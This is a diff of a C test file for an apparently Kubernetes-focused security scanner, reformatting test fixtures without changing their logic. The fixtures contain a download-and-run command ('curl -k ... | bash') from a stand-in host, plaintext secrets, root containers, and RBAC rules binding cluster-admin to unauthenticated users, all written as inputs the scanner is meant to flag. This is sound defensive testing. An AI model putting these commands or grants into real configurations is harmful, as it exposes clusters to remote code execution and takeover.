@@ -103,19 +103,19 @@ static void a_workload_is_looked_at_from_all_sides(void **state)
 {
     (void)state;
     struct seen seen;
-    scan(&seen, DEPLOYMENT
-         "      image: docker://registry.example.org/team/app:latest\n"
-         "      user: 0\n"
-         "      command: [sh, -c, 'curl -k https://x.example.org/i.sh | bash']\n"
-         "      args: ['--host', 0.0.0.0, '--api-key', abcd1234efgh, '--bind=[::]:80']\n"
-         "      env:\n"
-         "      - {name: A, value: b}\n"
-         "      - {name: DB_PASSWORD, value: hunter22}\n"
-         "      model: {uri: 'http://models.example.org/m.pt'}\n"
-         "      port: 80\n"
-         "      resources: {gpu: '0.5', cpu: 1}\n"
-         "      dataClass: restricted\n"
-         "  service: {access: Public}\n");
+    scan(&seen,
+         DEPLOYMENT "      image: docker://registry.example.org/team/app:latest\n"
+                    "      user: 0\n"
+                    "      command: [sh, -c, 'curl -k https://x.example.org/i.sh | bash']\n"
+                    "      args: ['--host', 0.0.0.0, '--api-key', abcd1234efgh, '--bind=[::]:80']\n"
+                    "      env:\n"
+                    "      - {name: A, value: b}\n"
+                    "      - {name: DB_PASSWORD, value: hunter22}\n"
+                    "      model: {uri: 'http://models.example.org/m.pt'}\n"
+                    "      port: 80\n"
+                    "      resources: {gpu: '0.5', cpu: 1}\n"
+                    "      dataClass: restricted\n"
+                    "  service: {access: Public}\n");
 #define T "spec.template.spec."
     FINDS(&seen, "image-latest", T "image");
     FINDS(&seen, "image-without-digest", T "image");
@@ -191,8 +191,8 @@ static void ordinary_commands_are_left_alone(void **state)
         "[x, '--key', value, '--mode', token]",
         "[tar, -xzf, data.tar.gz, -C, /tmp/data]",
     };
-    static const char *const RULES[] = {"secret-in-args", "open-listener", "privileged",
-                                        "run-as-root",    "host-path",     "download-and-run",
+    static const char *const RULES[] = {"secret-in-args",      "open-listener", "privileged",
+                                        "run-as-root",         "host-path",     "download-and-run",
                                         "tls-verification-off"};
     for (size_t i = 0; i < AT_ARRAY_LEN(COMMANDS); i++) {
         char yaml[1024];
@@ -252,23 +252,24 @@ static void rights_that_are_too_wide_are_found(void **state)
 {
     (void)state;
     struct seen seen;
-    scan(&seen,
-         "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata: {name: r}\nrules:\n"
-         "- {apiGroups: ['*'], resources: ['*'], verbs: ['*']}\n"
-         "- {apiGroups: [''], resources: [configmaps], verbs: ['*']}\n"
-         "- {apiGroups: [''], resources: [secrets], verbs: [get]}\n"
-         "- {apiGroups: [''], resources: [secrets], resourceNames: [a], verbs: [get]}\n"
-         "- {apiGroups: [''], resources: [users], verbs: [impersonate]}\n"
-         "- {apiGroups: [''], resources: [serviceaccounts/token], verbs: [create]}\n"
-         "- {apiGroups: [''], resources: [pods/exec], verbs: [create]}\n"
-         "- {apiGroups: [''], resources: [configmaps], verbs: [get, list]}\n"
-         "- {apiGroups: [rbac.authorization.k8s.io], resources: [clusterroles], verbs: [bind], "
-         "resourceNames: [view]}\n"
-         "---\n"
-         "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: {name: b}\n"
-         "roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}\n"
-         "subjects: [{kind: Group, name: 'system:unauthenticated'}, {kind: ServiceAccount, name: "
-         "default, namespace: x}]\n");
+    scan(
+        &seen,
+        "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata: {name: r}\nrules:\n"
+        "- {apiGroups: ['*'], resources: ['*'], verbs: ['*']}\n"
+        "- {apiGroups: [''], resources: [configmaps], verbs: ['*']}\n"
+        "- {apiGroups: [''], resources: [secrets], verbs: [get]}\n"
+        "- {apiGroups: [''], resources: [secrets], resourceNames: [a], verbs: [get]}\n"
+        "- {apiGroups: [''], resources: [users], verbs: [impersonate]}\n"
+        "- {apiGroups: [''], resources: [serviceaccounts/token], verbs: [create]}\n"
+        "- {apiGroups: [''], resources: [pods/exec], verbs: [create]}\n"
+        "- {apiGroups: [''], resources: [configmaps], verbs: [get, list]}\n"
+        "- {apiGroups: [rbac.authorization.k8s.io], resources: [clusterroles], verbs: [bind], "
+        "resourceNames: [view]}\n"
+        "---\n"
+        "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: {name: b}\n"
+        "roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}\n"
+        "subjects: [{kind: Group, name: 'system:unauthenticated'}, {kind: ServiceAccount, name: "
+        "default, namespace: x}]\n");
     FINDS(&seen, "rbac-wildcard", "rules[0].verbs");
     assert_int_equal(find(&seen, "rbac-wildcard", "rules[0].verbs")->severity, AT_SCAN_CRITICAL);
     FINDS(&seen, "rbac-wildcard", "rules[1].verbs");
@@ -284,7 +285,8 @@ static void rights_that_are_too_wide_are_found(void **state)
     done(&seen);
 }
 
-/* openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 365 -subj /CN=old.example.org, of 2020 */
+/* openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 365 -subj
+ * /CN=old.example.org, of 2020 */
 static void namespaces_policies_and_config_are_looked_at(void **state)
 {
     (void)state;
